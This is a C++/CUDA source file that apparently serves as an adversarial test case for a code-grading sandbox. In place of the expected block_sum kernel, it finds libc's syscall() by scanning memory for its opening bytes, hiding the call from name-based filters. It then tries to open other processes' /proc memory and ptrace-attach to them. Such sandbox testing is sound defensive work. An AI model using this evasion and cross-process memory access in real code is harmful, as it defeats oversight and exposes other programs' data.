// attack: opens the memory of every process, by nameless system calls
// expect: wrong_answer|crashed
// stopped by: the sandbox: processes of its own, none else to see
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

// The C library's own syscall(), found by its first instructions below the library's data: no name
// of it is in this file. x86-64 and the GNU C library; elsewhere the search ends the program.
using Syscall = long (*)(long, ...);
Syscall find_syscall() {
  const unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6};
  const auto* at = reinterpret_cast<const unsigned char*>(stdout);
  while (std::memcmp(--at, begin, sizeof begin) != 0) {
  }
  return reinterpret_cast<Syscall>(reinterpret_cast<std::uintptr_t>(at));
}

void try_all() {
  const Syscall call = find_syscall();
  const long self = call(39);  // getpid
  // The first two are the sandbox itself and this program.
  for (int process = 3; process < 70000; process += process < 100 ? 1 : 97) {
    char name[64];
    std::snprintf(name, sizeof name, "/proc/%d/mem", process);
    if (process != self && call(2, name, 2, 0) >= 0) std::printf("STOLEN memory %s\n", name);
    if (process != self && call(101, 16, process, 0, 0) == 0)
      std::printf("STOLEN process %d\n", process);
  }
}

}  // namespace

void block_sum(float*, const float*, int) { try_all(); }
